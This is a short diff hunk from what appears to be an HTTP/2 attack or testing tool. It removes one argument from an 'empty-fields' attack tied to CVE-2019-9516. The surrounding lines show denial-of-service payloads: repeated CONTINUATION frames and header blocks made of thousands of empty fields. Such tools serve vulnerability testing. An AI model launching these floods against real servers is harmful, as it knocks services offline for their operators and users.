@@ -140,7 +140,7 @@ def continuation_trickle(attacker):
     _repeat(attacker, continuation(number, b"v", end=False) * 1000, 1000, reads=True)
 
 
-@attack("empty-fields", "Fields without name and value, as many as frames hold (CVE-2019-9516)", ends=True)
+@attack("empty-fields", "Fields without name and value, as many as frames hold (CVE-2019-9516)")
 def empty_fields(attacker):
     peer = attacker.connect()
     block = peer.block("/") + b"\x00\x80\x80" * 5000
